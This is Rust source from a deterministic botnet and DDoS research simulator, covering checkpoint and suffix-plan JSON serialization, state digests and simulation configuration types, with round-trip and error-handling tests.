            .map_err(|e| PlanError::syntax(DOC, format!("is not valid JSON ({e})")))?;
        check_schema(&json, DOC, SUFFIX_SCHEMA)?;
        reject_unknown_fields(
            &json,
            DOC,
            "suffix plan",
            &["schema", "fork_at_nanos", "suffixes", "config"],
        )?;
        let invalid = |m: String| PlanError::invalid(DOC, m);
        let fork_at = Duration::from_nanos(u64_field(&json, "fork_at_nanos").map_err(invalid)?);
        let suffixes_json = field(&json, "suffixes")
            .map_err(invalid)?
            .as_array()
            .ok_or_else(|| PlanError::invalid(DOC, "field 'suffixes' is not an array"))?;
        let mut suffixes = Vec::with_capacity(suffixes_json.len());
        for (i, s) in suffixes_json.iter().enumerate() {
            reject_unknown_fields(
                s,
                DOC,
                &format!("suffix #{i}"),
                &["name", "fork_seed", "faults", "admin_lines", "horizon_nanos"],
            )?;
            suffixes.push(SuffixSpec::from_json(s).map_err(invalid)?);
        }
        let config_json = field(&json, "config").map_err(invalid)?;
        let config = if config_json.is_null() {
            None
        } else {
            Some(crate::checkpoint::config_from_json(config_json).map_err(invalid)?)
        };
        Ok(SuffixPlan {
            fork_at,
            suffixes,
            config,
        })
    }

    /// The serialized text form (pretty, byte-stable for equal content).
    pub fn to_string_pretty(&self) -> String {
        self.to_json().to_string_pretty()
    }
}

// ---- generic field accessors with named errors ----

fn field<'a>(json: &'a Json, key: &str) -> Result<&'a Json, String> {
    json.get(key)
        .ok_or_else(|| format!("missing field '{key}'"))
}

fn u64_field(json: &Json, key: &str) -> Result<u64, String> {
    field(json, key)?
        .as_u64()
        .ok_or_else(|| format!("field '{key}' is not an unsigned integer"))
}

fn str_field<'a>(json: &'a Json, key: &str) -> Result<&'a str, String> {
    field(json, key)?
        .as_str()
        .ok_or_else(|| format!("field '{key}' is not a string"))
}

#[cfg(test)]
mod tests {
    use super::*;

    fn sample_plan() -> SuffixPlan {
        SuffixPlan {
            fork_at: Duration::from_secs(30),
            suffixes: vec![
                SuffixSpec::identity("baseline"),
                SuffixSpec {
                    name: "late-outage".to_owned(),
                    fork_seed: 7,
                    faults: faults::FaultPlan {
                        seed: 3,
                        faults: vec![faults::FaultEvent {
                            at: Duration::from_secs(40),
                            kind: faults::FaultKind::CncOutage {
                                duration: Some(Duration::from_secs(5)),
                            },
                        }],
                    },
                    admin_lines: vec![(Duration::from_secs(42), "status".to_owned())],
                    horizon: Some(Duration::from_secs(90)),
                },
            ],
            config: None,
        }
    }

    #[test]
    fn plan_round_trips_byte_stable() {
        let plan = sample_plan();
        let text = plan.to_string_pretty();
        let back = SuffixPlan::parse(&text).expect("parses");
        assert_eq!(back.fork_at, plan.fork_at);
        assert_eq!(back.suffixes, plan.suffixes);
        assert!(back.config.is_none());
        assert_eq!(back.to_string_pretty(), text);
    }

    #[test]
    fn plan_with_config_round_trips() {
        let plan = SuffixPlan {
            config: Some(SimulationConfig::default()),
            ..sample_plan()
        };
        let text = plan.to_string_pretty();
        let back = SuffixPlan::parse(&text).expect("parses");
        assert_eq!(back.suffixes, plan.suffixes);
        assert!(back.config.is_some());
        assert_eq!(back.to_string_pretty(), text);
    }

    #[test]
    fn corrupted_input_gives_clear_errors() {
        let err = SuffixPlan::parse("{\"schema\": \"ddosim.suf").unwrap_err();
        assert!(err.contains("not valid JSON"), "{err}");
        let err = SuffixPlan::parse("{\"schema\": \"something/9\"}").unwrap_err();
        assert!(err.contains("schema"), "{err}");
        let err =
            SuffixPlan::parse(&format!("{{\"schema\": \"{SUFFIX_SCHEMA}\"}}")).unwrap_err();
        assert!(err.contains("missing field"), "{err}");
    }

    #[test]
    fn identity_suffix_is_empty() {
        let s = SuffixSpec::identity("x");
        assert_eq!(s.fork_seed, 0);
        assert!(s.faults.is_empty());
        assert!(s.admin_lines.is_empty());
        assert_eq!(s.horizon, None);
    }
}
