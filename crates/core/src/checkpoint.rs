//! Checkpoint/restore: the `ddosim.checkpoint/1` snapshot format.
//!
//! A DDoSim world cannot be serialized directly — the event queue holds
//! boxed closures, applications are trait objects, and packets carry
//! opaque payloads. Instead a checkpoint is a *replay recipe*: the full
//! resolved configuration, the seed, the checkpoint time `T`, per-layer
//! state digests of the world at `T`, and the flight-recorder event
//! count at `T`.
//!
//! Resume rebuilds the world from the embedded configuration, silently
//! replays `0 → T` with telemetry collectors suppressed (the simulation
//! behaves exactly as the original run — the suppression is invisible to
//! it), verifies the per-layer digests (a mismatch names the diverging
//! layer), splices the flight recorder's sequence counter to the saved
//! count, unsuppresses, and continues. Because the simulator is
//! deterministic, the continuation is byte-identical to the original run
//! from `T` onward: filtering the original trace to events with
//! `seq >= events_recorded` yields exactly the resumed run's trace.
//!
//! Known limitations, by design: packet-capture records and metric
//! samples from before `T` are not replayed into a resumed run's
//! collectors (the flight recorder is the identity-checked artifact),
//! and the telemetry configuration is pinned from the checkpoint so the
//! replay cannot diverge from the original.

use crate::config::{
    AttackSpec, BinaryMix, Recruitment, SimulationConfig, TopologyKind,
};
use attacker::ExploitStrategy;
use churn::ChurnMode;
use djson::{FromJson, Json, ToJson};
use faults::{check_schema, reject_unknown_fields, PlanError};
use firmware::{CommandSet, ContainerRuntime, FileKind};
use netsim::StateHasher;
use protocols::AttackVector;
use std::time::Duration;
use telemetry::CaptureFilter;
use tinyvm::{Arch, ProtectionMix, Protections};

/// Schema tag written into every serialized checkpoint.
pub const CHECKPOINT_SCHEMA: &str = "ddosim.checkpoint/1";

/// A point-in-time snapshot of a run: everything needed to resume it and
/// to verify the resumed world matches the original.
#[derive(Debug, Clone)]
pub struct Checkpoint {
    /// Simulated time the snapshot was taken at.
    pub at: Duration,
    /// The full resolved configuration of the checkpointed run.
    pub config: SimulationConfig,
    /// Per-layer state digests of the world at [`Checkpoint::at`], in a
    /// fixed layer order (`netsim.queue`, `netsim.nodes`, …, `firmware`).
    pub digests: Vec<(String, u64)>,
    /// Flight-recorder events recorded up to [`Checkpoint::at`]; the
    /// resumed run's recorder is spliced to continue numbering here.
    pub events_recorded: u64,
}

impl Checkpoint {
    /// Serializes the checkpoint.
    pub fn to_json(&self) -> Json {
        Json::obj([
            ("schema", Json::Str(CHECKPOINT_SCHEMA.into())),
            ("at_nanos", Json::U64(self.at.as_nanos() as u64)),
            ("events_recorded", Json::U64(self.events_recorded)),
            (
                "digests",
                Json::Arr(
                    self.digests
                        .iter()
                        .map(|(layer, digest)| {
                            Json::obj([
                                ("layer", Json::Str(layer.clone())),
                                ("digest", Json::U64(*digest)),
                            ])
                        })
                        .collect(),
                ),
            ),
            ("config", config_to_json(&self.config)),
        ])
    }

    /// Parses a serialized checkpoint.
    ///
    /// # Errors
    ///
    /// Returns a message describing exactly what is wrong: invalid JSON
    /// (with the byte offset), a missing or mistyped field, an unknown
    /// schema tag, an unknown top-level field, or an unrepresentable
    /// configuration. Never panics on corrupted or truncated input.
    pub fn parse(text: &str) -> Result<Checkpoint, String> {
        Self::parse_plan(text).map_err(String::from)
    }

    /// Like [`Checkpoint::parse`], but surfaces the typed [`PlanError`]
    /// shared by every schema-tagged plan document in the workspace.
    ///
    /// # Errors
    ///
    /// A [`PlanError`] naming the first syntax, schema, unknown-field, or
    /// shape problem.
    pub fn parse_plan(text: &str) -> Result<Checkpoint, PlanError> {
        const DOC: &str = "checkpoint";
        let json = Json::parse(text)
            .map_err(|e| PlanError::syntax(DOC, format!("is not valid JSON ({e})")))?;
        check_schema(&json, DOC, CHECKPOINT_SCHEMA)?;
        reject_unknown_fields(
            &json,
            DOC,
            "checkpoint",
            &["schema", "at_nanos", "events_recorded", "digests", "config"],
        )?;
        let invalid = |m: String| PlanError::invalid(DOC, m);
        let at = Duration::from_nanos(u64_field(&json, "at_nanos").map_err(invalid)?);
        let events_recorded = u64_field(&json, "events_recorded").map_err(invalid)?;
        let digests_json = field(&json, "digests")
            .map_err(invalid)?
            .as_array()
            .ok_or_else(|| PlanError::invalid(DOC, "field 'digests' is not an array"))?;
        let mut digests = Vec::with_capacity(digests_json.len());
        for d in digests_json {
            digests.push((
                str_field(d, "layer").map_err(invalid)?.to_owned(),
                u64_field(d, "digest").map_err(invalid)?,
            ));
        }
        let config = config_from_json(field(&json, "config").map_err(invalid)?).map_err(invalid)?;
        Ok(Checkpoint {
            at,
            config,
            digests,
            events_recorded,
        })
    }

    /// The serialized text form (pretty, byte-stable for equal content).
    pub fn to_string_pretty(&self) -> String {
        self.to_json().to_string_pretty()
    }
}

// ---- generic field accessors with named errors ----

fn field<'a>(json: &'a Json, key: &str) -> Result<&'a Json, String> {
    json.get(key)
        .ok_or_else(|| format!("missing field '{key}'"))
}

fn u64_field(json: &Json, key: &str) -> Result<u64, String> {
    field(json, key)?
        .as_u64()
        .ok_or_else(|| format!("field '{key}' is not an unsigned integer"))
}

fn f64_field(json: &Json, key: &str) -> Result<f64, String> {
    field(json, key)?
        .as_f64()
        .ok_or_else(|| format!("field '{key}' is not a number"))
}

fn bool_field(json: &Json, key: &str) -> Result<bool, String> {
    field(json, key)?
        .as_bool()
        .ok_or_else(|| format!("field '{key}' is not a boolean"))
}

fn str_field<'a>(json: &'a Json, key: &str) -> Result<&'a str, String> {
    field(json, key)?
        .as_str()
        .ok_or_else(|| format!("field '{key}' is not a string"))
}

fn nanos_field(json: &Json, key: &str) -> Result<Duration, String> {
    Ok(Duration::from_nanos(u64_field(json, key)?))
}

fn nanos(d: Duration) -> Json {
    Json::U64(d.as_nanos() as u64)
}

// ---- foreign-enum <-> JSON helpers (free functions: the enums live in
// other crates, so trait impls are barred by the orphan rule) ----

fn arch_to_str(arch: Arch) -> &'static str {
    match arch {
        Arch::X86_64 => "x86_64",
        Arch::Arm7 => "arm7",
        Arch::Mips => "mips",
    }
}

fn arch_from_str(s: &str) -> Result<Arch, String> {
    match s {
        "x86_64" => Ok(Arch::X86_64),
        "arm7" => Ok(Arch::Arm7),
        "mips" => Ok(Arch::Mips),
        other => Err(format!("unknown arch '{other}'")),
    }
}

fn churn_to_str(mode: ChurnMode) -> &'static str {
    match mode {
        ChurnMode::None => "none",
        ChurnMode::Static => "static",
        ChurnMode::Dynamic => "dynamic",
    }
}

fn churn_from_str(s: &str) -> Result<ChurnMode, String> {
    match s {
        "none" => Ok(ChurnMode::None),
        "static" => Ok(ChurnMode::Static),
        "dynamic" => Ok(ChurnMode::Dynamic),
        other => Err(format!("unknown churn mode '{other}'")),
    }
}

fn strategy_to_str(s: ExploitStrategy) -> &'static str {
    match s {
        ExploitStrategy::LeakRebase => "leak_rebase",
        ExploitStrategy::StaticChain => "static_chain",
        ExploitStrategy::CodeInjection => "code_injection",
    }
}

fn strategy_from_str(s: &str) -> Result<ExploitStrategy, String> {
    match s {
        "leak_rebase" => Ok(ExploitStrategy::LeakRebase),
        "static_chain" => Ok(ExploitStrategy::StaticChain),
        "code_injection" => Ok(ExploitStrategy::CodeInjection),
        other => Err(format!("unknown exploit strategy '{other}'")),
    }
}

fn binary_mix_to_json(mix: BinaryMix) -> Json {
    match mix {
        BinaryMix::ConnmanOnly => Json::obj([("kind", Json::Str("connman_only".into()))]),
        BinaryMix::DnsmasqOnly => Json::obj([("kind", Json::Str("dnsmasq_only".into()))]),
        BinaryMix::Mixed { connman_fraction } => Json::obj([
            ("kind", Json::Str("mixed".into())),
            ("connman_fraction", Json::F64(connman_fraction)),
        ]),
    }
}

fn binary_mix_from_json(json: &Json) -> Result<BinaryMix, String> {
    match str_field(json, "kind")? {
        "connman_only" => Ok(BinaryMix::ConnmanOnly),
        "dnsmasq_only" => Ok(BinaryMix::DnsmasqOnly),
        "mixed" => Ok(BinaryMix::Mixed {
            connman_fraction: f64_field(json, "connman_fraction")?,
        }),
        other => Err(format!("unknown binary mix '{other}'")),
    }
}

fn protections_to_json(mix: &ProtectionMix) -> Json {
    match mix {
        ProtectionMix::RandomSubsets => {
            Json::obj([("kind", Json::Str("random_subsets".into()))])
        }
        ProtectionMix::Uniform(p) => Json::obj([
            ("kind", Json::Str("uniform".into())),
            ("wx", Json::Bool(p.wx)),
            ("aslr", Json::Bool(p.aslr)),
            ("canary", Json::Bool(p.canary)),
        ]),
    }
}

fn protections_from_json(json: &Json) -> Result<ProtectionMix, String> {
    match str_field(json, "kind")? {
        "random_subsets" => Ok(ProtectionMix::RandomSubsets),
        "uniform" => Ok(ProtectionMix::Uniform(Protections {
            wx: bool_field(json, "wx")?,
            aslr: bool_field(json, "aslr")?,
            canary: bool_field(json, "canary")?,
        })),
        other => Err(format!("unknown protection mix '{other}'")),
    }
}

fn recruitment_to_json(r: Recruitment) -> Json {
    match r {
        Recruitment::MemoryError => Json::obj([("kind", Json::Str("memory_error".into()))]),
        Recruitment::CredentialScanner {
            default_credential_fraction,
        } => Json::obj([
            ("kind", Json::Str("credential_scanner".into())),
            (
                "default_credential_fraction",
                Json::F64(default_credential_fraction),
            ),
        ]),
        Recruitment::SelfPropagating {
            default_credential_fraction,
            seeds,
        } => Json::obj([
            ("kind", Json::Str("self_propagating".into())),
            (
                "default_credential_fraction",
                Json::F64(default_credential_fraction),
            ),
            ("seeds", Json::U64(seeds as u64)),
        ]),
    }
}

fn recruitment_from_json(json: &Json) -> Result<Recruitment, String> {
    match str_field(json, "kind")? {
        "memory_error" => Ok(Recruitment::MemoryError),
        "credential_scanner" => Ok(Recruitment::CredentialScanner {
            default_credential_fraction: f64_field(json, "default_credential_fraction")?,
        }),
        "self_propagating" => Ok(Recruitment::SelfPropagating {
            default_credential_fraction: f64_field(json, "default_credential_fraction")?,
            seeds: u64_field(json, "seeds")? as usize,
        }),
        other => Err(format!("unknown recruitment '{other}'")),
    }
}

fn topology_to_json(t: TopologyKind) -> Json {
    match t {
        TopologyKind::Star => Json::obj([("kind", Json::Str("star".into()))]),
        TopologyKind::Wifi => Json::obj([("kind", Json::Str("wifi".into()))]),
        TopologyKind::Tiered {
            regions,
            region_uplink_bps,
        } => Json::obj([
            ("kind", Json::Str("tiered".into())),
            ("regions", Json::U64(regions as u64)),
            ("region_uplink_bps", Json::U64(region_uplink_bps)),
        ]),
    }
}

fn topology_from_json(json: &Json) -> Result<TopologyKind, String> {
    match str_field(json, "kind")? {
        "star" => Ok(TopologyKind::Star),
        "wifi" => Ok(TopologyKind::Wifi),
        "tiered" => Ok(TopologyKind::Tiered {
            regions: u64_field(json, "regions")? as usize,
            region_uplink_bps: u64_field(json, "region_uplink_bps")?,
        }),
        other => Err(format!("unknown topology '{other}'")),
    }
}

/// Writes a [`CaptureFilter`] back to the BPF-ish expression
/// [`CaptureFilter::parse`] accepts (the empty string for the
/// match-everything filter).
fn capture_filter_expr(f: &CaptureFilter) -> String {
    let mut parts: Vec<String> = Vec::new();
    if let Some(proto) = &f.proto {
        parts.push(proto.clone());
    }
    if let Some(port) = f.port {
        parts.push(format!("port {port}"));
    }
    if let Some(ip) = f.src {
        parts.push(format!("src {ip}"));
    }
    if let Some(ip) = f.dst {
        parts.push(format!("dst {ip}"));
    }
    if let Some(ip) = f.host {
        parts.push(format!("host {ip}"));
    }
    parts.join(" ")
}

fn telemetry_to_json(t: &netsim::TelemetryConfig) -> Json {
    Json::obj([
        ("record", Json::Bool(t.record)),
        ("recorder_capacity", Json::U64(t.recorder_capacity as u64)),
        ("capture", Json::Bool(t.capture)),
        (
            "capture_filter",
            Json::Str(capture_filter_expr(&t.capture_filter)),
        ),
        ("capture_capacity", Json::U64(t.capture_capacity as u64)),
        (
            "metrics_interval_nanos",
            match t.metrics_interval {
                None => Json::Null,
                Some(iv) => nanos(iv),
            },
        ),
    ])
}

fn telemetry_from_json(json: &Json) -> Result<netsim::TelemetryConfig, String> {
    let metrics = field(json, "metrics_interval_nanos")?;
    Ok(netsim::TelemetryConfig {
        record: bool_field(json, "record")?,
        recorder_capacity: u64_field(json, "recorder_capacity")? as usize,
        capture: bool_field(json, "capture")?,
        capture_filter: CaptureFilter::parse(str_field(json, "capture_filter")?)
            .map_err(|e| format!("capture filter: {e}"))?,
        capture_capacity: u64_field(json, "capture_capacity")? as usize,
        metrics_interval: if metrics.is_null() {
            None
        } else {
            Some(Duration::from_nanos(metrics.as_u64().ok_or(
                "field 'metrics_interval_nanos' is not an unsigned integer",
            )?))
        },
    })
}

/// Serializes a full resolved [`SimulationConfig`].
pub fn config_to_json(c: &SimulationConfig) -> Json {
    Json::obj([
        ("devs", Json::U64(c.devs as u64)),
        ("binary_mix", binary_mix_to_json(c.binary_mix)),
        ("protections", protections_to_json(&c.protections)),
        ("arch", Json::Str(arch_to_str(c.arch).into())),
        (
            "access_rate_kbps",
            Json::obj([
                ("start", Json::U64(*c.access_rate_kbps.start())),
                ("end", Json::U64(*c.access_rate_kbps.end())),
            ]),
        ),
        ("tserver_link_bps", Json::U64(c.tserver_link_bps)),
        ("tserver_queue_bytes", Json::U64(c.tserver_queue_bytes)),
        ("access_delay_nanos", nanos(c.access_delay)),
        ("churn", Json::Str(churn_to_str(c.churn).into())),
        (
            "attack",
            Json::obj([
                ("vector", Json::Str(c.attack.vector.to_string())),
                ("duration_nanos", nanos(c.attack.duration)),
                (
                    "payload_bytes",
                    match c.attack.payload_bytes {
                        None => Json::Null,
                        Some(b) => Json::U64(u64::from(b)),
                    },
                ),
                ("port", Json::U64(u64::from(c.attack.port))),
            ]),
        ),
        ("attack_at_nanos", nanos(c.attack_at)),
        ("sim_time_nanos", nanos(c.sim_time)),
        ("strategy", Json::Str(strategy_to_str(c.strategy).into())),
        (
            "commands",
            Json::Arr(c.commands.iter().map(|s| Json::Str(s.to_owned())).collect()),
        ),
        ("recruitment", recruitment_to_json(c.recruitment)),
        ("flood_rate_bps", Json::U64(c.flood_rate_bps)),
        ("attack_ramp_nanos", nanos(c.attack_ramp)),
        ("attack_over_ipv6", Json::Bool(c.attack_over_ipv6)),
        ("reboot_rate_per_min", Json::F64(c.reboot_rate_per_min)),
        ("topology", topology_to_json(c.topology)),
        (
            "admin_script",
            Json::Arr(
                c.admin_script
                    .iter()
                    .map(|(at, line)| {
                        Json::obj([
                            ("at_nanos", nanos(*at)),
                            ("line", Json::Str(line.clone())),
                        ])
                    })
                    .collect(),
            ),
        ),
        ("telemetry", telemetry_to_json(&c.telemetry)),
        ("faults", c.faults.to_json()),
        ("honeypots", Json::U64(u64::from(c.honeypots))),
        ("backup_cncs", Json::U64(u64::from(c.backup_cncs))),
        ("rng", rng_to_json(c.rng)),
        ("seed", Json::U64(c.seed)),
    ])
}

fn rng_to_json(plan: crate::RngPlan) -> Json {
    let stream = |s: Option<u64>| s.map(Json::U64).unwrap_or(Json::Null);
    Json::obj([
        ("world", stream(plan.world)),
        ("event", stream(plan.event)),
        ("fault", stream(plan.fault)),
    ])
}

fn rng_from_json(json: &Json) -> Result<crate::RngPlan, String> {
    let stream = |key: &str| -> Result<Option<u64>, String> {
        match json.get(key) {
            None | Some(Json::Null) => Ok(None),
            Some(v) => v
                .as_u64()
                .map(Some)
                .ok_or_else(|| format!("rng stream '{key}' is not an unsigned integer")),
        }
    };
    Ok(crate::RngPlan {
        world: stream("world")?,
        event: stream("event")?,
        fault: stream("fault")?,
    })
}

/// Parses a serialized [`SimulationConfig`].
///
/// # Errors
///
/// Returns a message naming the missing or mistyped field.
pub fn config_from_json(json: &Json) -> Result<SimulationConfig, String> {
    let rate = field(json, "access_rate_kbps")?;
    let attack_json = field(json, "attack")?;
    let vector_str = str_field(attack_json, "vector")?;
    let vector = AttackVector::parse(vector_str)
        .ok_or_else(|| format!("unknown attack vector '{vector_str}'"))?;
    let payload = field(attack_json, "payload_bytes")?;
    let admin_json = field(json, "admin_script")?
        .as_array()
        .ok_or("field 'admin_script' is not an array")?;
    let mut admin_script = Vec::with_capacity(admin_json.len());
    for entry in admin_json {
        admin_script.push((
            nanos_field(entry, "at_nanos")?,
            str_field(entry, "line")?.to_owned(),
        ));
    }
    let commands_json = field(json, "commands")?
        .as_array()
        .ok_or("field 'commands' is not an array")?;
    let mut commands = Vec::with_capacity(commands_json.len());
    for c in commands_json {
        commands.push(
            c.as_str()
                .ok_or("field 'commands' holds a non-string")?
                .to_owned(),
        );
    }
    let faults = faults::FaultPlan::from_json(field(json, "faults")?)
        .map_err(|e| format!("fault plan: {e}"))?;
    Ok(SimulationConfig {
        devs: u64_field(json, "devs")? as usize,
        binary_mix: binary_mix_from_json(field(json, "binary_mix")?)?,
        protections: protections_from_json(field(json, "protections")?)?,
        arch: arch_from_str(str_field(json, "arch")?)?,
        access_rate_kbps: u64_field(rate, "start")?..=u64_field(rate, "end")?,
        tserver_link_bps: u64_field(json, "tserver_link_bps")?,
        tserver_queue_bytes: u64_field(json, "tserver_queue_bytes")?,
        access_delay: nanos_field(json, "access_delay_nanos")?,
        churn: churn_from_str(str_field(json, "churn")?)?,
        attack: AttackSpec {
            vector,
            duration: nanos_field(attack_json, "duration_nanos")?,
            payload_bytes: if payload.is_null() {
                None
            } else {
                Some(
                    payload
                        .as_u64()
                        .ok_or("field 'payload_bytes' is not an unsigned integer")?
                        as u32,
                )
            },
            port: u64_field(attack_json, "port")? as u16,
        },
        attack_at: nanos_field(json, "attack_at_nanos")?,
        sim_time: nanos_field(json, "sim_time_nanos")?,
        strategy: strategy_from_str(str_field(json, "strategy")?)?,
        commands: CommandSet::from_list(commands),
        recruitment: recruitment_from_json(field(json, "recruitment")?)?,
        flood_rate_bps: u64_field(json, "flood_rate_bps")?,
        attack_ramp: nanos_field(json, "attack_ramp_nanos")?,
        attack_over_ipv6: bool_field(json, "attack_over_ipv6")?,
        reboot_rate_per_min: f64_field(json, "reboot_rate_per_min")?,
        topology: topology_from_json(field(json, "topology")?)?,
        admin_script,
        telemetry: telemetry_from_json(field(json, "telemetry")?)?,
        faults,
        honeypots: u64_field(json, "honeypots")? as u16,
        backup_cncs: u64_field(json, "backup_cncs")? as u16,
        // Older checkpoints predate the RngPlan field; absence means the
        // default (seed-derived) streams, which is exactly what they ran.
        rng: match json.get("rng") {
            Some(r) => rng_from_json(r)?,
            None => crate::RngPlan::default(),
        },
        seed: u64_field(json, "seed")?,
    })
}

/// Folds the firmware layer — every container's filesystem, process
/// table, infection bookkeeping, and audit-log shape — into one digest.
pub fn firmware_digest(runtime: &ContainerRuntime) -> u64 {
    let mut h = StateHasher::new();
    h.write_usize(runtime.len());
    for container in runtime.containers() {
        let s = container.state();
        h.write_str(&s.name);
        h.write_str(arch_to_str(s.arch));
        h.write_usize(s.node.index());
        h.write_usize(s.fs.file_count());
        for (path, entry) in s.fs.files() {
            h.write_str(path);
            match &entry.kind {
                FileKind::Data => h.write_u32(0),
                FileKind::Script(_) => h.write_u32(1),
                FileKind::Executable { arch, .. } => {
                    h.write_u32(2);
                    h.write_str(arch_to_str(*arch));
                }
            }
            h.write_u64(entry.size_bytes);
            h.write_bool(entry.executable);
        }
        h.write_usize(s.procs.len());
        for p in s.procs.iter() {
            h.write_u32(p.pid.0);
            h.write_str(&p.name);
            match p.app {
                None => h.write_bool(false),
                Some(app) => {
                    h.write_bool(true);
                    h.write_usize(app.node().index());
                    h.write_usize(app.slot());
                }
            }
            h.write_usize(p.ports.len());
            for port in &p.ports {
                h.write_u32(u32::from(*port));
            }
        }
        for cmd in s.commands.iter() {
            h.write_str(cmd);
        }
        h.write_u64(s.image_bytes);
        match s.infected_at {
            None => h.write_bool(false),
            Some(t) => {
                h.write_bool(true);
                h.write_u64(t.as_nanos());
            }
        }
        h.write_bool(s.bot_alive);
        h.write_u32(s.infection_count);
        h.write_u32(s.reboot_count);
        h.write_usize(s.events.len());
    }
    h.finish()
}

#[cfg(test)]
mod tests {
    use super::*;

    fn roundtrip(config: SimulationConfig) {
        let cp = Checkpoint {
            at: Duration::from_secs(30),
            config,
            digests: vec![("netsim.queue".into(), 7), ("firmware".into(), 9)],
            events_recorded: 123,
        };
        let text = cp.to_string_pretty();
        let back = Checkpoint::parse(&text).expect("parses");
        assert_eq!(back.at, cp.at);
        assert_eq!(back.events_recorded, cp.events_recorded);
        assert_eq!(back.digests, cp.digests);
        // Byte stability: reserializing the parsed checkpoint is identical.
        assert_eq!(back.to_string_pretty(), text);
    }

    #[test]
    fn default_config_round_trips() {
        roundtrip(SimulationConfig::default());
    }

    #[test]
    fn pinned_rng_plan_round_trips() {
        let c = SimulationConfig {
            rng: crate::RngPlan::pinned(777),
            ..SimulationConfig::default()
        };
        let text = config_to_json(&c).to_string_compact();
        let back = config_from_json(&Json::parse(&text).unwrap()).unwrap();
        assert_eq!(back.rng, c.rng);
        roundtrip(c);
    }

    #[test]
    fn partial_rng_plan_round_trips() {
        let c = SimulationConfig {
            rng: crate::RngPlan {
                world: Some(5),
                event: None,
                fault: None,
            },
            ..SimulationConfig::default()
        };
        let text = config_to_json(&c).to_string_compact();
        let back = config_from_json(&Json::parse(&text).unwrap()).unwrap();
        assert_eq!(back.rng, c.rng);
        roundtrip(c);
    }

    #[test]
    fn missing_rng_field_defaults() {
        // Checkpoints written before RngPlan existed carry no "rng" key;
        // they must parse to the default (seed-derived) plan.
        let mut json = config_to_json(&SimulationConfig::default());
        if let Json::Obj(pairs) = &mut json {
            pairs.retain(|(k, _)| k != "rng");
        }
        let back = config_from_json(&json).unwrap();
        assert!(back.rng.is_default());
    }

    #[test]
    fn exotic_config_round_trips() {
        let mut c = SimulationConfig {
            devs: 37,
            binary_mix: BinaryMix::Mixed {
                connman_fraction: 0.25,
            },
            protections: ProtectionMix::Uniform(Protections {
                wx: true,
                aslr: false,
                canary: true,
            }),
            arch: Arch::Arm7,
            churn: ChurnMode::Dynamic,
            strategy: ExploitStrategy::StaticChain,
            commands: CommandSet::without(&["curl"]),
            recruitment: Recruitment::SelfPropagating {
                default_credential_fraction: 0.4,
                seeds: 3,
            },
            attack_over_ipv6: true,
            reboot_rate_per_min: 0.5,
            topology: TopologyKind::Tiered {
                regions: 4,
                region_uplink_bps: 10_000_000,
            },
            admin_script: vec![(Duration::from_secs(80), "stop".to_owned())],
            telemetry: netsim::TelemetryConfig {
                record: true,
                capture: true,
                capture_filter: CaptureFilter::parse("udp port 80").unwrap(),
                metrics_interval: Some(Duration::from_secs(1)),
                ..netsim::TelemetryConfig::default()
            },
            seed: 99,
            ..SimulationConfig::default()
        };
        c.attack.payload_bytes = Some(256);
        roundtrip(c);
    }

    #[test]
    fn wifi_topology_round_trips() {
        roundtrip(SimulationConfig {
            topology: TopologyKind::Wifi,
            ..SimulationConfig::default()
        });
    }

    #[test]
    fn corrupted_input_gives_clear_errors() {
        // Truncated JSON.
        let err = Checkpoint::parse("{\"schema\": \"ddosim.ch").unwrap_err();
        assert!(err.contains("not valid JSON"), "{err}");
        // Wrong schema.
        let err = Checkpoint::parse("{\"schema\": \"something/9\"}").unwrap_err();
        assert!(err.contains("schema"), "{err}");
        // Missing field.
        let err =
            Checkpoint::parse(&format!("{{\"schema\": \"{CHECKPOINT_SCHEMA}\"}}")).unwrap_err();
        assert!(err.contains("missing field"), "{err}");
        // Not JSON at all.
        let err = Checkpoint::parse("not json").unwrap_err();
        assert!(err.contains("not valid JSON"), "{err}");
    }

    #[test]
    fn capture_filter_expression_round_trips() {
        for expr in ["", "udp", "tcp port 23 src 10.0.0.1 dst 10.0.0.2 host 10.0.0.3"] {
            let filter = CaptureFilter::parse(expr).unwrap();
            assert_eq!(capture_filter_expr(&filter), expr);
        }
    }
}
