//! Simulation configuration and the [`SimulationBuilder`].

use churn::ChurnMode;
use firmware::CommandSet;
use protocols::AttackVector;
use std::ops::RangeInclusive;
use std::time::Duration;
use tinyvm::{Arch, ProtectionMix};

pub use attacker::ExploitStrategy;

/// Which vulnerable daemon a Dev runs.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum DaemonKind {
    /// The Connman-like network manager (DNS exploit path).
    Connman,
    /// The Dnsmasq-like DNS/DHCP daemon (DHCPv6 exploit path).
    Dnsmasq,
}

impl std::fmt::Display for DaemonKind {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        match self {
            DaemonKind::Connman => f.write_str("connman"),
            DaemonKind::Dnsmasq => f.write_str("dnsmasq"),
        }
    }
}

/// The distribution of daemons across Devs ("randomly load them with
/// vulnerable Connman or Dnsmasq binaries", §IV-D).
#[derive(Debug, Clone, Copy, PartialEq)]
pub enum BinaryMix {
    /// All Devs run the Connman-like daemon.
    ConnmanOnly,
    /// All Devs run the Dnsmasq-like daemon.
    DnsmasqOnly,
    /// Each Dev draws Connman with the given probability.
    Mixed {
        /// Probability a Dev runs Connman.
        connman_fraction: f64,
    },
}

impl BinaryMix {
    /// The paper's setup: Devs randomly run one of the two daemons.
    pub fn half_and_half() -> Self {
        BinaryMix::Mixed {
            connman_fraction: 0.5,
        }
    }
}

impl Default for BinaryMix {
    fn default() -> Self {
        BinaryMix::half_and_half()
    }
}

/// How Devs are recruited into the botnet.
#[derive(Debug, Clone, Copy, PartialEq)]
#[derive(Default)]
pub enum Recruitment {
    /// The paper's contribution: remote memory-error exploitation.
    #[default]
    MemoryError,
    /// The Mirai-classic baseline: telnet dictionary scanning. Each Dev
    /// exposes telnet; `default_credential_fraction` of them still use a
    /// dictionary credential.
    CredentialScanner {
        /// Fraction of Devs with default (dictionary) credentials.
        default_credential_fraction: f64,
    },
    /// Worm mode: the attacker compromises only `seeds` devices; every
    /// recruited bot then scans the subnet itself ("Botnet Malware can
    /// simultaneously scan the network for new potential victims", §II-A).
    /// Produces the exponential growth curve epidemic models describe.
    SelfPropagating {
        /// Fraction of Devs with default (dictionary) credentials.
        default_credential_fraction: f64,
        /// Devices the attacker's own scanner targets initially.
        seeds: usize,
    },
}


/// Shape of the simulated Internet joining the components.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Default)]
pub enum TopologyKind {
    /// The paper's model (§III-D): one fabric node, one abstract link per
    /// component.
    #[default]
    Star,
    /// Two-tier extension (lifting the §V-C "uniform connections"
